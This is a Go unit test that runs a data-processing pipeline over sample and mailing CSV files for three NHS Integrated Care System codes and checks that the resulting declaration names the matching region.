func TestDeclarationNamesEveryICS(t *testing.T) {
	for code, want := range map[string]string{"QMM": "Norfolk and Waveney", "QOP": "Greater Manchester", "QXU": "Surrey Heartlands"} {
		t.Run(code, func(t *testing.T) {
			st := newStore(t)
			s, m := goodRows(3)
			for _, r := range s {
				r["ICS_CODE"] = code
			}
			put(t, st, sampleKey, csvText(sampleHeader, s))
			put(t, st, mailingKey, csvText(mailingHeader, m))
			cfg := testConfig()
			cfg.ICS = code
			res, err := Run(context.Background(), st, cfg, Input{SampleKey: sampleKey, MailingKey: mailingKey})
			if err != nil {
				t.Fatal(err)
			}
			if res.Accepted != 3 {
				t.Fatalf("accepted %d of 3: %+v", res.Accepted, res.ByReason)
			}
			if got := res.Declaration.ICSName; got != want {
				t.Errorf("declaration ics_name %q, want %q", got, want)
			}
		})
	}
}
